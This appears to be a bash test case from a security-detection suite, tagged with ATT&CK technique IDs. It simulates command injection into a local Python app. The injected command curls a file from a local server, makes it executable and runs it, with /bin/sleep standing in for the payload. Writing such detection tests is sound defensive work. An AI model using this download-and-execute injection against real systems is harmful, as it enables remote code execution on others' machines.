#!/usr/bin/env bash
# A Python web app with a command-injection bug: the attacker's command goes
# through /bin/sh, fetches a binary with curl, makes it executable and runs it.
# expect: T1059|T1190
# expect: T1105
. "$(dirname "$0")/../lib.sh"
mkdir -p "$VS_DIR/www"; cp /bin/sleep "$VS_DIR/www/agent"
www=$(vs_serve_dir "$VS_DIR/www")
app=$(vs_python_app)
c="curl -s -o .agent http://127.0.0.1:$www/agent; chmod 700 .agent; ./.agent 0.3"
curl -s "http://127.0.0.1:$app/exec?c=$(vs_q "$c")" >/dev/null
sleep 1
